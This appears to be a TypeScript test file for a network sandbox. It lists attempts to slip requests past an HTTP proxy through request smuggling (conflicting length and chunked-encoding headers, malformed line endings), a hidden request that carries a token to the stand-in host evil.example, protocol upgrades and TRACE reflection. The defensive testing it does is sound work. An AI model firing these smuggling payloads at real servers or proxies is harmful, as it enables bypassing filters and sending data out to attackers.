/** Requests that two programs read in two ways, and ways out of HTTP. */
import { ask } from '../../../../support/internet/sandbox.ts'
import type { Attempt } from './attempt.ts'

const hidden = (token: string): string => `GET http://evil.example/${token} HTTP/1.1\r\nHost: evil.example\r\n\r\n`
/** Sixty bytes, as the lengths say. */
const inner = (token: string): string => `GET /${token} HTTP/1.1\r\nHost: evil.example\r\n\r\n`.padEnd(60)

const sends = (name: string, head: string, body: (token: string) => string, policy?: object): Attempt => ({
  name,
  passesWhenOpen: false,
  ...(policy && { policy }),
  async run({ sandbox, log, token }) {
    const before = log.entries.length
    await sandbox.say(`POST http://open.example/ HTTP/1.1\r\nHost: open.example\r\n${head}\r\n${body(token)}`)
    // The body may arrive as a body; it must not have become a request.
    for (const [at, entry] of log.entries.entries())
      if (at >= before && entry.host === 'open.example' && entry.text.startsWith('POST / '))
        log.entries[at] = { ...entry, text: entry.text.replaceAll(token, 'body') }
  },
})

const both = (token: string): string => `0\r\n\r\n${inner(token)}`

/** A request whose answer would show what was put into it. */
const reflects = (name: string, request: (token: string) => string): Attempt => ({
  name,
  passesWhenOpen: false,
  async run({ sandbox, log, token }) {
    const socket = await sandbox.tunnel('api.example:80')
    if (!('write' in socket)) return
    const { body } = await ask(socket, request(token))
    if (body.includes('TOP-SECRET')) log.add('sandbox', '', token)
  },
})

export const smuggling: readonly Attempt[] = [
  sends('both a length and chunks', 'Content-Length: 60\r\nTransfer-Encoding: chunked\r\n', both),
  sends('chunks and a length', 'Transfer-Encoding: chunked\r\nContent-Length: 60\r\n', both),
  sends('two lengths', 'Content-Length: 0\r\nContent-Length: 60\r\n', inner),
  sends('a length with a sign', 'Content-Length: +60\r\n', inner),
  sends('a list of lengths', 'Content-Length: 0, 60\r\n', inner),
  sends('an unknown encoding', 'Transfer-Encoding: xchunked\r\n', both),
  sends('two encodings', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n', both),
  sends('an encoding that ends in chunks', 'Transfer-Encoding: gzip, chunked\r\n', both),
  sends('an encoding after a tab', 'Transfer-Encoding:\tchunked\r\nContent-Length: 4\r\n', both),
  sends('a blank before the colon', 'Transfer-Encoding : chunked\r\nContent-Length: 60\r\n', both),
  sends('a folded header', 'Transfer-Encoding:\r\n chunked\r\nContent-Length: 60\r\n', both),
  sends('a bare carriage return', 'X: a\rTransfer-Encoding: chunked\r\nContent-Length: 60\r\n', both),
  sends('a bare line feed', 'X: a\nTransfer-Encoding: chunked\nContent-Length: 60\r\n', both),
  sends(
    'a chunk size with something behind',
    'Transfer-Encoding: chunked\r\n',
    token => `5;\n\r\nhello\r\n0\r\n\r\n${inner(token)}`,
  ),
  sends(
    'a chunk size that is too large for a number',
    'Transfer-Encoding: chunked\r\n',
    token => `FFFFFFFFFFFFFFFF1\r\n${inner(token)}`,
  ),
  sends(
    'a header that names Content-Length as its connection’s',
    'Connection: content-length\r\nContent-Length: 60\r\n',
    inner,
  ),
  sends('a request behind a request, for another host', 'Content-Length: 0\r\n', hidden),
  sends('a body that is a request', 'Content-Length: 60\r\nExpect: 100-continue\r\n', inner),
  {
    name: 'an offer to go on in HTTP/2 (h2c)',
    passesWhenOpen: false,
    async run({ sandbox, log, token }) {
      const before = log.entries.length
      await sandbox.say(
        `GET http://open.example/ HTTP/1.1\r\nHost: open.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n`,
      )
      if (log.entries.slice(before).some(one => one.text.startsWith('UPGRADE') || /"upgrade"/.test(one.text)))
        log.add('open.example', '', token)
    },
  },
  {
    name: 'an upgrade to a protocol of one’s own',
    passesWhenOpen: false,
    async run({ sandbox, token }) {
      const socket = await sandbox.proxy()
      socket.write(
        'GET http://open.example/ HTTP/1.1\r\nHost: open.example\r\nConnection: Upgrade\r\nUpgrade: mine\r\n\r\n',
      )
      await new Promise(resolve => setTimeout(resolve, 200))
      await ask(socket, token)
    },
  },
  {
    name: 'a WebSocket to a path that is not allowed',
    passesWhenOpen: true,
    run: ({ sandbox, token }) =>
      sandbox.say(
        `GET http://api.example/v2/${token} HTTP/1.1\r\nHost: api.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n`,
      ),
  },
  reflects('TRACE, which shows what was put in', token => `TRACE /v1/${token} HTTP/1.1\r\nHost: api.example\r\n\r\n`),
  {
    name: 'an id of one’s own for the request',
    passesWhenOpen: false,
    async run({ sandbox, log, token }) {
      const before = log.entries.length
      await sandbox.get('http://open.example/', {
        'X-Svc-Request-Id': token,
        'X-Svc-Process': Buffer.from(JSON.stringify({ command: token })).toString('base64url'),
      })
      if (log.entries.length === before) log.add('nothing arrived', '', token)
    },
  },
]
